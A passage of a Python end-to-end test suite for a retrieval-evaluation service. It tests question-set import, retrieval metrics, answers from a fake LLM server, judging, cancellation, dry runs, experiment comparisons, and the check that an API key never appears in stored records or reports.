"""The evaluator through gRPC, against the whole stack (each service its own
process): question sets, the labelled measures on chroma-general checked
against an independent computation, answers (extractive and streamed from a
local OpenAI-compatible server), judges, dry runs, comparisons, feedback and
reports that keep a hostile document's HTML dead."""

from __future__ import annotations

import csv
import io
import json
import re
import threading
from html.parser import HTMLParser

import grpc
import pytest

from chunklab import knobs
from chunklab.rpc import channels
from chunklab.settings import Settings
from chunklab.text import sentences
from chunklab.v1 import common_pb2, documents_pb2, evaluator_pb2, ingest_pb2, retriever_pb2
from services.chunker.strategies import REGISTRY
from tests.support.fake_openai import FakeOpenAI
from tests.support.grids import CHUNK_SIZE, OVERLAP, fixed
from tests.support.repo import SHARED_DATA, chroma_general
from tests.support.stack import REPORT_PIECE_BYTES as PIECE
from tests.support.status import status_of

pytestmark = pytest.mark.e2e

TOP_K = 5


def fixed_config(values: dict) -> str:
    """The config id the chunker gives fixed_size with these knob values."""
    return knobs.config_id("fixed_size", REGISTRY.get("fixed_size").knobs, values)


# The index set chroma_run makes (beside any active one): the Query page can pick it by id.
CHROMA_CONFIG = fixed_config({"chunk_size": CHUNK_SIZE, "chunk_overlap": OVERLAP})
SECRET = "sk-test-secret-4242"


# -- helpers --------------------------------------------------------------------


def upload(stack, name: str, data: bytes, collection: str = "") -> documents_pb2.Document:
    return stack.client().upload_document(data, name=name, collection=collection).document


def import_set(stack, name: str, data: bytes, mapping: dict | None = None, piece: int = 4096):
    # Client-streamed in pieces, like uploads.
    return stack.client().import_question_set(data, name=name, document_ids=mapping, piece_bytes=piece)


def evaluator(stack):
    return channels.evaluator(stack.addresses["evaluator"])


def run(stack, config: evaluator_pb2.ExperimentConfig, dry_run: bool = False) -> list[evaluator_pb2.ExperimentEvent]:
    return list(stack.client().run_experiment(config, dry_run=dry_run))


def finished(events) -> evaluator_pb2.Experiment:
    experiment = events[-1].experiment
    assert experiment.state == evaluator_pb2.EXPERIMENT_STATE_SUCCEEDED, experiment.error
    return experiment


def report_of(stack, experiment_id: str, view: int = evaluator_pb2.REPORT_VIEW_BOTH):
    """(header, data pieces) of GetReport's stream, read from the stub as it comes."""
    request = evaluator_pb2.GetReportRequest(experiment_id=experiment_id, view=view)
    header, *pieces = evaluator(stack).GetReport(request, timeout=60)
    assert header.WhichOneof("piece") == "header" and all(p.WhichOneof("piece") == "data" for p in pieces)
    return header.header, [p.data for p in pieces]


def report_html(stack, experiment_id: str, view: int = evaluator_pb2.REPORT_VIEW_BOTH) -> str:
    return b"".join(report_of(stack, experiment_id, view)[1]).decode()


def get(stack, experiment_id: str) -> evaluator_pb2.Experiment:
    return evaluator(stack).GetExperiment(evaluator_pb2.GetExperimentRequest(experiment_id=experiment_id), timeout=60)


def full_text(stack, document_id: str) -> str:
    request = ingest_pb2.GetDocumentRequest(document_id=document_id, view=documents_pb2.DOCUMENT_VIEW_FULL)
    return channels.ingest(stack.addresses["ingest"]).GetDocument(request, timeout=30).text


# -- fixtures ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def chroma(stack):
    """chroma-general's three corpora uploaded and its questions.csv imported as it is."""
    documents = {
        p.stem: upload(stack, p.name, p.read_bytes()) for p in sorted((chroma_general() / "corpora").glob("*.md"))
    }
    question_set = import_set(stack, "chroma-general", (SHARED_DATA / "questions.csv").read_bytes())
    return documents, question_set


@pytest.fixture(scope="module")
def chroma_run(stack, chroma):
    """fixed_size 250/125, top_k 5, retrieval only, over all 276 questions."""
    _, question_set = chroma
    config = evaluator_pb2.ExperimentConfig(
        name="chroma fixed 250/125",
        question_set_id=question_set.question_set_id,
        strategies=[fixed()],
        retrieval=common_pb2.RetrievalOptions(top_k=TOP_K),
        retrieval_only=True,
    )
    events = run(stack, config)
    return events, get(stack, finished(events).experiment_id)


@pytest.fixture(scope="module")
def small_set(stack, chroma):
    """Three chatlogs questions (with their references) as a small set for the slower paths."""
    documents, _ = chroma
    rows = [
        r
        for r in csv.DictReader((SHARED_DATA / "questions.csv").open(encoding="utf-8"))
        if r["corpus_id"] == "chatlogs"
    ][:3]
    questions = [
        evaluator_pb2.Question(
            text=row["question"],
            references=[
                evaluator_pb2.Reference(
                    document_id=documents["chatlogs"].document_id,
                    start_char=r["start_index"],
                    end_char=r["end_index"],
                    content=r["content"],
                )
                for r in json.loads(row["references"])
            ],
        )
        for row in rows
    ]
    request = evaluator_pb2.CreateQuestionSetRequest(
        name="chatlogs-3", description="three questions", questions=questions
    )
    return evaluator(stack).CreateQuestionSet(request, timeout=60)


@pytest.fixture
def fake():
    with FakeOpenAI() as server:

        def responder(messages, model):
            if "strict evaluator" in messages[0]["content"]:
                if '"hallucination"' in messages[-1]["content"]:
                    return json.dumps({"hallucination": "no", "reason": "supported by the context"})
                return json.dumps({"score": 7, "reason": "judged by the fake"})
            return "The fake model says: see the context."

        server.responder = responder
        yield server


# -- question sets ----------------------------------------------------------------


def test_the_chroma_question_set_imports_as_it_is_with_exact_references(stack, chroma):
    documents, question_set = chroma
    assert question_set.question_count == 276 and len(question_set.content_hash) == 64
    stored = evaluator(stack).GetQuestionSet(
        evaluator_pb2.GetQuestionSetRequest(question_set_id=question_set.question_set_id), timeout=30
    )
    assert len(stored.questions) == 276
    ids = {d.document_id: stem for stem, d in documents.items()}
    texts = {d.document_id: full_text(stack, d.document_id) for d in documents.values()}
    rows = list(csv.DictReader((SHARED_DATA / "questions.csv").open(encoding="utf-8")))
    for question, row in zip(stored.questions, rows):
        assert question.text == row["question"]
        assert [(r.start_char, r.end_char) for r in question.references] == [
            (r["start_index"], r["end_index"]) for r in json.loads(row["references"])
        ]
        for reference in question.references:
            assert ids[reference.document_id] == row["corpus_id"]
            assert texts[reference.document_id][reference.start_char : reference.end_char] == reference.content
    # The same file again is the same set: one entry in the list however often it is imported.
    again = import_set(stack, "chroma-again", (SHARED_DATA / "questions.csv").read_bytes(), piece=1 << 20)
    assert again.question_set_id == question_set.question_set_id and again.content_hash == question_set.content_hash
    listed = [s.question_set_id for s in stack.client().list_question_sets()]
    assert listed.count(question_set.question_set_id) == 1
    # Other content is another set, and an unused set can be deleted.
    with (SHARED_DATA / "questions.csv").open(newline="") as source:
        reader = csv.DictReader(source)
        first_ten = io.StringIO()
        writer = csv.DictWriter(first_ten, fieldnames=reader.fieldnames)
        writer.writeheader()
        writer.writerows(row for _, row in zip(range(10), reader))
    unused = import_set(stack, "chroma-first-ten", first_ten.getvalue().encode(), piece=1 << 20)
    assert unused.question_count == 10 and unused.question_set_id != question_set.question_set_id
    evaluator(stack).DeleteQuestionSet(
        evaluator_pb2.DeleteQuestionSetRequest(question_set_id=unused.question_set_id), timeout=30
    )
    code, _ = status_of(
        lambda: evaluator(stack).GetQuestionSet(
            evaluator_pb2.GetQuestionSetRequest(question_set_id=unused.question_set_id), timeout=30
        )
    )
    assert code == grpc.StatusCode.NOT_FOUND


def test_question_files_that_do_not_fit_the_documents_are_refused_with_the_line(stack, chroma):
    documents, _ = chroma
    header = "question,references,corpus_id\n"
    good = '"ok?","[]",chatlogs\n'
    wrong = '"bad?","[{""content"": ""not this"", ""start_index"": 0, ""end_index"": 8}]",chatlogs\n'
    code, message = status_of(lambda: import_set(stack, "bad.csv", (header + good + wrong).encode()))
    assert code == grpc.StatusCode.INVALID_ARGUMENT and "line 3" in message
    unknown = '"who?","[{""content"": ""x"", ""start_index"": 0, ""end_index"": 1}]",no_such_corpus\n'
    code, message = status_of(lambda: import_set(stack, "unknown.csv", (header + unknown).encode()))
    assert code == grpc.StatusCode.FAILED_PRECONDITION and "no_such_corpus" in message
    code, message = status_of(lambda: import_set(stack, "notes.txt", b"what is this?\n"))
    assert code == grpc.StatusCode.INVALID_ARGUMENT and "JSONL or CSV" in message
    # An excerpt string located in the text, and an explicit mapping of the corpus id.
    text = full_text(stack, documents["chatlogs"].document_id)
    excerpt = text[1000:1060]
    line = json.dumps({"question": "What was said?", "references": [{"corpus_id": "logs", "content": excerpt}]})
    made = import_set(stack, "located.jsonl", line.encode(), mapping={"logs": documents["chatlogs"].document_id})
    stored = evaluator(stack).GetQuestionSet(
        evaluator_pb2.GetQuestionSetRequest(question_set_id=made.question_set_id), timeout=30
    )
    reference = stored.questions[0].references[0]
    assert text[reference.start_char : reference.end_char] == excerpt == reference.content


# -- labelled measures -------------------------------------------------------------


def independent_measures(chunks, references) -> dict[str, float]:
    """A straightforward computation: sets of (document, character) pairs."""
    relevant = {(d, i) for d, s, e in references for i in range(s, e)}
    retrieved = {(d, i) for d, s, e in chunks for i in range(s, e)}
    retrieved_chars = sum(e - s for _, s, e in chunks)
    common = len(relevant & retrieved)
    return {
        "recall": common / len(relevant),
        "precision": common / retrieved_chars,
        "iou": common / (retrieved_chars + len(relevant) - common),
    }


def independent_rank_measures(chunks, references) -> dict[str, float]:
    """recall@1/3/5 and AP at top_k 5 (ADR 0052), excerpt by excerpt: an excerpt is found at
    the rank of the first chunk sharing a character with it; a chunk that finds one is relevant."""
    excerpts = list(dict.fromkeys(references))
    first = {}
    for rank, (d, s, e) in enumerate(chunks, start=1):
        for x in excerpts:
            if x not in first and d == x[0] and min(e, x[2]) > max(s, x[1]):
                first[x] = rank
    relevant_ranks = sorted(set(first.values()))
    judged = len(relevant_ranks) + len(excerpts) - len(first)  # relevant chunks and excerpts never found
    expected = {f"recall_at_{k}": sum(r <= k for r in first.values()) / len(excerpts) for k in (1, 3, 5)}
    expected["map"] = sum((i + 1) / r for i, r in enumerate(relevant_ranks)) / judged
    return expected


def test_labelled_measures_on_chroma_general_equal_an_independent_computation(stack, chroma, chroma_run):
    _, question_set = chroma
    events, experiment = chroma_run
    assert events[0].HasField("estimate") and events[0].estimate.questions == 276
    progress = [e.progress.questions_done for e in events if e.HasField("progress")]
    assert progress == sorted(progress) and progress[-1] == 276
    (run_,) = experiment.runs
    assert run_.questions_done == 276 and run_.config_id
    questions = {
        q.question_id: q
        for q in evaluator(stack)
        .GetQuestionSet(evaluator_pb2.GetQuestionSetRequest(question_set_id=question_set.question_set_id), timeout=30)
        .questions
    }
    retriever = channels.retriever(stack.addresses["retriever"])
    document_ids = sorted({r.document_id for q in questions.values() for r in q.references})
    totals = dict.fromkeys(
        ("recall", "precision", "iou", "hit_rate", "mrr", "recall_at_1", "recall_at_3", "recall_at_5", "map"), 0.0
    )
    assert len(experiment.results) == 276
    for result in experiment.results:
        question = questions[result.question_id]
        response = retriever.Retrieve(
            retriever_pb2.RetrieveRequest(
                query=question.text,
                options=common_pb2.RetrievalOptions(
                    strategy="fixed_size",
                    config_id=experiment.runs[0].config_id,
                    top_k=TOP_K,
                    filter=common_pb2.RetrievalFilter(document_ids=document_ids),
                ),
            ),
            timeout=30,
        )
        chunks = [(c.chunk.document_id, c.chunk.start_char, c.chunk.end_char) for c in response.retrieved_chunks]
        # The experiment saw what the retriever returns for the question.
        assert chunks == [(c.chunk.document_id, c.chunk.start_char, c.chunk.end_char) for c in result.retrieved_chunks]
        refs = [(r.document_id, r.start_char, r.end_char) for r in question.references]
        expected = independent_measures(chunks, refs)
        touching = [any(d == rd and min(e, re_) > max(s, rs) for rd, rs, re_ in refs) for d, s, e in chunks]
        ranks = [c.rank for c, t in zip(response.retrieved_chunks, touching) if t]
        expected["hit_rate"] = 1.0 if ranks else 0.0
        expected["mrr"] = 1.0 / min(ranks) if ranks else 0.0
        measured = {k: getattr(result.metrics, k) for k in expected}
        assert measured == pytest.approx(expected, abs=1e-12), question.text
        by_rank = [chunk for _, chunk in sorted(zip((c.rank for c in response.retrieved_chunks), chunks))]
        ranked = independent_rank_measures(by_rank, refs)
        assert {k: getattr(result.metrics, k) for k in ranked} == pytest.approx(ranked, abs=1e-12), question.text
        assert not result.metrics.HasField("recall_at_10")  # top_k 5: not measured
        # Without expansion, hits only and the expanded context are the same thing.
        assert result.metrics.recall_hits == pytest.approx(result.metrics.recall)
        for key, value in {**expected, **ranked}.items():
            totals[key] += value
    means = {k: v / 276 for k, v in totals.items()}
    summary = run_.mean_metrics
    assert {k: getattr(summary, k) for k in means} == pytest.approx(means, abs=1e-9)
    print(
        f"\nchroma-general fixed_size {CHUNK_SIZE}/{OVERLAP} top_k {TOP_K}: "
        + ", ".join(f"{k} {100 * v:.2f}%" for k, v in means.items())
    )
    # The README's independent implementation measured recall 90.8 % and IoU 4.1 % for these windows.
    assert summary.recall == pytest.approx(0.908, abs=0.02) and summary.iou == pytest.approx(0.041, abs=0.01)


def test_each_corpus_has_its_own_figures_equal_to_the_means_of_its_questions(stack, chroma, chroma_run):
    """Issue 29, item 5 (ADR 0118): the run's figures per document are the means over the
    questions whose references lie in that corpus, named by its file, in its collection."""
    documents, question_set = chroma
    _, experiment = chroma_run
    (run_,) = experiment.runs
    questions = {
        q.question_id: q
        for q in evaluator(stack)
        .GetQuestionSet(evaluator_pb2.GetQuestionSetRequest(question_set_id=question_set.question_set_id), timeout=30)
        .questions
    }
    by_document: dict[str, list[evaluator_pb2.QuestionResult]] = {}
    for result in experiment.results:
        expected_ids = list(dict.fromkeys(r.document_id for r in questions[result.question_id].references))
        assert list(result.document_ids) == expected_ids
        for document_id in expected_ids:
            by_document.setdefault(document_id, []).append(result)
    figures = {f.document_name: f for f in run_.per_document}
    assert sorted(figures) == sorted(f"{stem}.md" for stem in documents)
    for name, f in figures.items():
        mine = by_document[f.document_id]
        assert f.document_id == documents[name.removesuffix(".md")].document_id and f.collection == "default"
        assert f.metrics.questions_labelled == len(mine)
        for measure in ("recall", "precision", "iou"):
            mean = sum(getattr(r.metrics, measure) for r in mine) / len(mine)
            assert getattr(f.metrics, measure) == pytest.approx(mean, abs=1e-9), (name, measure)
        assert f.metrics.tokens_sent == round(sum(r.metrics.tokens_sent for r in mine) / len(mine))
    (collection,) = run_.per_collection
    assert collection.collection == "default" and collection.metrics.recall == pytest.approx(run_.mean_metrics.recall)
    print(
        "\nper document: "
        + "; ".join(
            f"{n} {f.metrics.questions_labelled} q, recall {100 * f.metrics.recall:.1f}%, "
            f"precision {100 * f.metrics.precision:.1f}%, IoU {100 * f.metrics.iou:.1f}%, {f.metrics.tokens_sent} tokens/q"
            for n, f in sorted(figures.items())
        )
    )


def test_a_question_set_used_by_an_experiment_cannot_be_deleted(stack, chroma, chroma_run):
    _, question_set = chroma
    code, message = status_of(
        lambda: evaluator(stack).DeleteQuestionSet(
            evaluator_pb2.DeleteQuestionSetRequest(question_set_id=question_set.question_set_id), timeout=30
        )
    )
    assert code == grpc.StatusCode.FAILED_PRECONDITION and chroma_run[1].experiment_id in message


# -- answers and feedback --------------------------------------------------------------


def answer(stack, chroma, question: str, model: evaluator_pb2.ModelEndpoint | None = None):
    documents, _ = chroma
    request = evaluator_pb2.AnswerRequest(
        question=question,
        retrieval=common_pb2.RetrievalOptions(
            strategy="fixed_size",
            config_id=CHROMA_CONFIG,
            top_k=3,
            filter=common_pb2.RetrievalFilter(document_ids=[documents["chatlogs"].document_id]),
        ),
    )
    if model is not None:
        request.answer_model.CopyFrom(model)
    return list(evaluator(stack).Answer(request, timeout=120))


def test_without_an_llm_the_answer_is_extractive_and_says_so(stack, chroma, chroma_run):
    events = answer(stack, chroma, "What did people discuss about the app?")
    kinds = [e.WhichOneof("event") for e in events]
    assert kinds[0] == "context" and kinds[-1] == "result" and "delta" in kinds
    context, result = events[0].context, events[-1].result
    assert context.query_id == result.query_id and len(context.expansion_tree.hits) == 3
    assert result.extractive and result.model == "extractive" and result.usage.llm_calls == 0
    # The answer is whole sentences of the context (white space read as single spaces), in
    # reading order: next to each other where they follow one another, else with " … " between.
    rest = result.answer
    for chunk in context.retrieved_chunks:
        for sentence in sentences.sentences(chunk.chunk.content):
            sentence = " ".join(sentence.split())
            if rest.startswith(sentence):
                rest = rest[len(sentence) :].removeprefix(" … ").lstrip(" ")
    assert result.answer and rest == ""
    assert "".join(e.delta for e in events if e.HasField("delta")) == result.answer


def test_an_llm_answer_streams_token_by_token(stack, chroma, chroma_run, fake):
    fake.responder = lambda messages, model: "Streamed answer in several words."
    model = evaluator_pb2.ModelEndpoint(base_url=fake.base_url, api_key=SECRET, model="gpt-4o-mini")
    events = answer(stack, chroma, "What did people discuss?", model)
    deltas = [e.delta for e in events if e.HasField("delta")]
    result = events[-1].result
    assert len(deltas) > 2 and "".join(deltas) == result.answer == "Streamed answer in several words."
    assert not result.extractive and result.model == "gpt-4o-mini" and result.usage.llm_calls == 1
    assert result.usage.estimated_cost_usd > 0
    prompt = fake.calls[0]["body"]["messages"][-1]["content"]
    assert all(c.chunk.content in prompt for c in events[0].context.retrieved_chunks)


def test_feedback_is_kept_with_the_query_and_summed_per_strategy(stack, chroma, chroma_run):
    stub = evaluator(stack)
    first = answer(stack, chroma, "Who asked about pricing?")
    second = answer(stack, chroma, "What went wrong?")
    up = stub.SubmitFeedback(
        evaluator_pb2.SubmitFeedbackRequest(query_id=first[-1].result.query_id, thumbs_up=True, comment="spot on"),
        timeout=30,
    )
    stub.SubmitFeedback(evaluator_pb2.SubmitFeedbackRequest(query_id=second[-1].result.query_id), timeout=30)
    assert up.strategy == "fixed_size" and up.question == "Who asked about pricing?"
    assert up.answer == first[-1].result.answer
    assert [c.chunk.chunk_id for c in up.retrieved_chunks] == [
        c.chunk.chunk_id for c in first[0].context.retrieved_chunks
    ]
    summary = {
        s.strategy: (s.thumbs_up, s.thumbs_down)
        for s in stub.SummarizeFeedback(evaluator_pb2.SummarizeFeedbackRequest(), timeout=30).strategies
    }
    assert summary["fixed_size"] == (1, 1)
    code, _ = status_of(lambda: stub.SubmitFeedback(evaluator_pb2.SubmitFeedbackRequest(query_id="nope"), timeout=30))
    assert code == grpc.StatusCode.NOT_FOUND
    code, _ = status_of(lambda: stub.SubmitFeedback(evaluator_pb2.SubmitFeedbackRequest(), timeout=30))
    assert code == grpc.StatusCode.INVALID_ARGUMENT


# -- experiments with models, dry runs, comparisons ------------------------------------------


def test_an_experiment_with_llm_answers_and_judges_records_everything_but_the_key(stack, small_set, chroma_run, fake):
    model = evaluator_pb2.ModelEndpoint(base_url=fake.base_url, api_key=SECRET, model="gpt-4o-mini")
    config = evaluator_pb2.ExperimentConfig(
        name="judged",
        question_set_id=small_set.question_set_id,
        strategies=[fixed()],
        answer_model=model,
        judge_model=model,
        retrieval=common_pb2.RetrievalOptions(top_k=TOP_K),
    )
    experiment = get(stack, finished(run(stack, config)).experiment_id)
    (run_,) = experiment.runs
    assert run_.index_reused  # the chroma run left these documents indexed with 250/125
    assert len(experiment.results) == 3
    for result in experiment.results:
        assert result.answer == "The fake model says: see the context." and not result.extractive
        scores = result.judge
        assert scores.faithfulness.measured and scores.faithfulness.value == 7
        assert scores.faithfulness.reason == "judged by the fake"
        assert scores.hallucination.measured and scores.hallucination.value == 0
        assert scores.prompt_version.startswith("judge-v1+")
        assert result.usage.llm_calls == 1 + 4 and result.usage.estimated_cost_usd > 0
        assert 0 <= result.metrics.embedding_answer_similarity <= 1
    assert run_.mean_judge.context_relevance.value == 7 and run_.usage.llm_calls == 15
    provenance = experiment.provenance
    assert provenance.answer_model == f"gpt-4o-mini at {fake.base_url}"
    assert provenance.judge_prompt_version == experiment.results[0].judge.prompt_version
    assert provenance.question_set_hash == small_set.content_hash and provenance.embedding_model
    assert provenance.code_version.startswith("chunklab")
    # The key went to the model and nowhere else.
    listed = evaluator(stack).ListExperiments(evaluator_pb2.ListExperimentsRequest(page_size=100), timeout=30)
    html = report_html(stack, experiment.experiment_id)
    for blob in (experiment.SerializeToString(), listed.SerializeToString(), html.encode()):
        assert SECRET.encode() not in blob


def test_a_cancelled_experiment_stops_before_its_next_question_and_resumes_later(stack, small_set, chroma_run, fake):
    fake.behaviour, fake.delay_s = "slow", 1.0  # each answer takes a second
    stub = evaluator(stack)
    config = evaluator_pb2.ExperimentConfig(
        name="cancel me",
        question_set_id=small_set.question_set_id,
        strategies=[fixed()],
        answer_model=evaluator_pb2.ModelEndpoint(base_url=fake.base_url, model="fake-model"),
        judge_model=evaluator_pb2.ModelEndpoint(model="none"),
        retrieval=common_pb2.RetrievalOptions(top_k=TOP_K),
    )
    cancelled = None
    events = []
    for event in stack.client().run_experiment(config):
        events.append(event)
        if cancelled is None and event.HasField("progress") and event.progress.questions_done >= 1:
            # A page opened mid-run reads what the run is doing from GetExperiment.
            mid_run = stub.GetExperiment(
                evaluator_pb2.GetExperimentRequest(experiment_id=event.progress.experiment_id, without_results=True),
                timeout=30,
            )
            assert mid_run.progress.experiment_id == event.progress.experiment_id
            assert mid_run.progress.questions_done >= 1 and mid_run.progress.message
            cancelled = stub.CancelExperiment(
                evaluator_pb2.CancelExperimentRequest(experiment_id=event.progress.experiment_id), timeout=30
            )
    stopped = events[-1].experiment
    assert cancelled.state == evaluator_pb2.EXPERIMENT_STATE_RUNNING
    assert stopped.state == evaluator_pb2.EXPERIMENT_STATE_INTERRUPTED and stopped.error == (
        "cancelled on request; continue it with Resume on the Experiments page (or `chunklab resume <experiment id>`)"
    )
    assert 1 <= stopped.questions_done < 3
    assert not stub.GetExperiment(
        evaluator_pb2.GetExperimentRequest(experiment_id=stopped.experiment_id, without_results=True), timeout=30
    ).HasField("progress")
    for request, expected in (
        (
            evaluator_pb2.CancelExperimentRequest(experiment_id=stopped.experiment_id),
            grpc.StatusCode.FAILED_PRECONDITION,
        ),
        (evaluator_pb2.CancelExperimentRequest(experiment_id="no-such-experiment"), grpc.StatusCode.NOT_FOUND),
        (evaluator_pb2.CancelExperimentRequest(), grpc.StatusCode.INVALID_ARGUMENT),
    ):
        code, message = status_of(lambda: stub.CancelExperiment(request, timeout=30))
        assert code == expected and message

    fake.behaviour = "good"
    resumed = finished(list(stack.client().resume_experiment(stopped.experiment_id)))
    assert resumed.questions_done == 3


def test_a_dry_run_estimates_and_calls_nothing(stack, chroma, small_set, chroma_run, fake):
    before = len(stack.client().list_experiments())
    model = evaluator_pb2.ModelEndpoint(base_url=fake.base_url, model="gpt-4o-mini")
    config = evaluator_pb2.ExperimentConfig(
        question_set_id=small_set.question_set_id,
        strategies=[fixed(chunk_size=300)],
        answer_model=model,
        judge_model=evaluator_pb2.ModelEndpoint(base_url=fake.base_url, model="my-local-judge"),
        retrieval=common_pb2.RetrievalOptions(top_k=TOP_K),
    )
    events = run(stack, config, dry_run=True)
    estimate = events[0].estimate
    assert estimate.questions == 3 and estimate.runs == 1 and estimate.documents == 1
    assert estimate.llm_calls == 3 * (1 + 4)
    assert estimate.prompt_tokens > 3 * TOP_K * 300 and estimate.estimated_cost_usd > 0
    assert any("unknown price" in note and "my-local-judge" in note for note in estimate.notes)
    assert events[-1].experiment.runs[0].run_key == "fixed_size[chunk_size=300,chunk_overlap=125]"
    assert not fake.calls  # no LLM was called
    after = len(stack.client().list_experiments())
    assert after == before  # nothing stored
    # Nothing was processed: the chatlogs have no set of the 300/125 configuration.
    sets = stack.client().list_indexed_sets("fixed_size", document_id=chroma[0]["chatlogs"].document_id)
    dry_config = fixed_config({"chunk_size": 300, "chunk_overlap": OVERLAP})
    assert chroma_run[1].runs[0].config_id in {s.config_id for s in sets} and dry_config not in {
        s.config_id for s in sets
    }


def test_compare_warns_on_different_neighbours_and_gives_bootstrap_intervals(stack, small_set, chroma_run):
    base = evaluator_pb2.ExperimentConfig(
        question_set_id=small_set.question_set_id,
        strategies=[fixed()],
        retrieval=common_pb2.RetrievalOptions(top_k=2),
        retrieval_only=True,
    )
    wide = evaluator_pb2.ExperimentConfig()
    wide.CopyFrom(base)
    wide.retrieval.neighbor_prev = wide.retrieval.neighbor_next = 1
    first = finished(run(stack, base))
    second = finished(run(stack, wide))
    reply = evaluator(stack).CompareExperiments(
        evaluator_pb2.CompareExperimentsRequest(
            experiment_ids=[first.experiment_id, second.experiment_id], bootstrap_samples=500
        ),
        timeout=60,
    )
    assert any("neighbour expansion differs" in w and "±0/0" in w and "±1/1" in w for w in reply.warnings)
    by_metric = {d.metric: d for d in reply.differences}
    for name in ("recall", "precision", "iou", "tokens_sent", "recall_hits"):
        d = by_metric[name]
        assert d.shared_questions == 3 and d.ci_low <= d.difference <= d.ci_high
        assert d.baseline_experiment_id == first.experiment_id and d.experiment_id == second.experiment_id
    assert by_metric["tokens_sent"].difference > 0  # neighbours add context
    assert by_metric["recall_hits"].difference == 0  # the hits are the same
    assert by_metric["recall"].difference >= 0
    # Per-question wins and losses on recall (ADR 0058), over the three questions both answered.
    assert [(w.metric, w.experiment_id, w.other_experiment_id, w.wins + w.losses + w.ties) for w in reply.wins] == [
        ("recall", first.experiment_id, second.experiment_id, 3)
    ]
    assert not any("was left out" in w for w in reply.warnings)
    code, _ = status_of(
        lambda: evaluator(stack).CompareExperiments(
            evaluator_pb2.CompareExperimentsRequest(experiment_ids=[first.experiment_id]), timeout=30
        )
    )
    assert code == grpc.StatusCode.INVALID_ARGUMENT


def test_experiments_index_their_own_sets_run_side_by_side_and_leave_the_active_ones_alone(
    stack, chroma, small_set, chroma_run, fake
):
    """ADR 0038: a grid of three fixed_size sizes, and a second experiment started
    during it, leave the active set and what a plain Retrieve returns as they
    were; a configuration already indexed (or being indexed) is never processed twice."""
    documents, _ = chroma
    chatlogs = documents["chatlogs"].document_id
    retriever = channels.retriever(stack.addresses["retriever"])
    user_spec = common_pb2.StrategySpec(
        name="fixed_size",
        knobs={"chunk_size": common_pb2.KnobValue(int_value=200), "chunk_overlap": common_pb2.KnobValue(int_value=20)},
    )
    stack.client().process(chatlogs, [user_spec])  # what a user processed: the active set

    def active() -> retriever_pb2.IndexedSet:
        return retriever.GetIndexedSet(
            retriever_pb2.GetIndexedSetRequest(
                key=retriever_pb2.IndexedSetKey(
                    embedding_model=Settings().embedding_model, document_id=chatlogs, strategy="fixed_size"
                )
            ),
            timeout=30,
        )

    def plain(question: str) -> list[tuple[str, int]]:
        response = retriever.Retrieve(
            retriever_pb2.RetrieveRequest(
                query=question,
                options=common_pb2.RetrievalOptions(
                    strategy="fixed_size", top_k=3, filter=common_pb2.RetrievalFilter(document_ids=[chatlogs])
                ),
            ),
            timeout=30,
        )
        return [(r.chunk.config_id, r.chunk.chunk_index) for r in response.retrieved_chunks]

    questions = [q.text for q in small_set.questions]
    before, answers_before = active(), [plain(q) for q in questions]
    user_config = fixed_config({"chunk_size": 200, "chunk_overlap": 20})
    assert before.config_id == user_config and {c for a in answers_before for c, _ in a} == {user_config}

    sizes = evaluator_pb2.StrategyGrid(
        strategy="fixed_size",
        grid=[
            evaluator_pb2.KnobGrid(
                knob="chunk_size", values=[common_pb2.KnobValue(int_value=n) for n in (64, 96, 250)]
            ),
            evaluator_pb2.KnobGrid(knob="chunk_overlap", values=[common_pb2.KnobValue(int_value=0)]),
        ],
    )
    fake.behaviour, fake.delay_s = "slow", 0.5  # the grid's answers take a while: the second starts during it
    grid = evaluator_pb2.ExperimentConfig(
        name="three sizes",
        question_set_id=small_set.question_set_id,
        strategies=[sizes],
        retrieval=common_pb2.RetrievalOptions(top_k=2),
        answer_model=evaluator_pb2.ModelEndpoint(base_url=fake.base_url, model="fake-model"),
        judge_model=evaluator_pb2.ModelEndpoint(model="none"),
    )
    first_events: list = []
    started = threading.Event()

    def run_grid() -> None:
        for event in stack.client().run_experiment(grid):
            first_events.append(event)
            if event.HasField("progress") and event.progress.message != "queued":
                started.set()

    runner = threading.Thread(target=run_grid)
    runner.start()
    try:
        assert started.wait(300)
        second = finished(
            run(
                stack,
                evaluator_pb2.ExperimentConfig(
                    name="one size, during the grid",
                    question_set_id=small_set.question_set_id,
                    strategies=[fixed(64, 0)],
                    retrieval=common_pb2.RetrievalOptions(top_k=2),
                    retrieval_only=True,
                ),
            )
        )
    finally:
        runner.join(900)
        fake.behaviour, fake.delay_s = "good", 0.0
    first = finished(first_events)
    assert second.finished_at.ToDatetime() < first.finished_at.ToDatetime()  # it ran during the first, not after

    runs = {r.run_key: r for r in first.runs}
    small = runs["fixed_size[chunk_size=64,chunk_overlap=0]"]
    assert [small.index_reused, second.runs[0].index_reused].count(False) == 1  # 64/0 processed once, then reused
    assert second.runs[0].config_id == small.config_id == small.retrieval.config_id
    assert all(r.questions_done == 3 and not r.error for r in first.runs)
    # Processing is told by the document's file name, with its place among the run's documents.
    told = [
        (
            e.progress.run_key,
            e.progress.document_name,
            e.progress.documents_done,
            e.progress.documents_total,
            e.progress.message,
        )
        for e in first_events
        if e.HasField("progress") and e.progress.document_name
    ]
    key = "fixed_size[chunk_size=96,chunk_overlap=0]"
    assert (key, "chatlogs.md", 0, 1, f"processing chatlogs.md with {key} (1/1)") in told
    assert chatlogs not in " ".join(message for *_, message in told)  # names, never ids
    assert {r.retrieval.config_id for r in first.runs} == {r.config_id for r in first.runs} and len(runs) == 3

    after = active()
    assert (after.config_id, after.spec, after.indexed_at) == (before.config_id, before.spec, before.indexed_at)
    assert [plain(q) for q in questions] == answers_before
    for result in get(stack, first.experiment_id).results:  # each run searched its own set
        assert {r.chunk.config_id for r in result.retrieved_chunks} == {runs[result.run_key].config_id}
    sets = retriever.ListIndexedSets(
        retriever_pb2.ListIndexedSetsRequest(document_id=chatlogs, strategy="fixed_size"), timeout=30
    ).sets
    assert [s.config_id for s in sets if s.active] == [user_config]
    assert {r.config_id for r in first.runs} <= {s.config_id for s in sets}


def test_a_split_experiment_names_the_winner_chosen_on_half_and_scores_it_on_the_other_half(stack, chroma, chroma_run):
    """ADR 0046: chroma-general's 276 questions, two configurations; a seeded half chooses,
    the other half confirms, and the report, Compare and GetExperiment say the same."""
    _, question_set = chroma
    grid = evaluator_pb2.StrategyGrid(
        strategy="fixed_size",
        grid=[
            evaluator_pb2.KnobGrid(knob="chunk_size", values=[common_pb2.KnobValue(int_value=250)]),
            evaluator_pb2.KnobGrid(knob="chunk_overlap", values=[common_pb2.KnobValue(int_value=v) for v in (125, 0)]),
        ],
    )
    experiment = get(
        stack,
        finished(
            run(
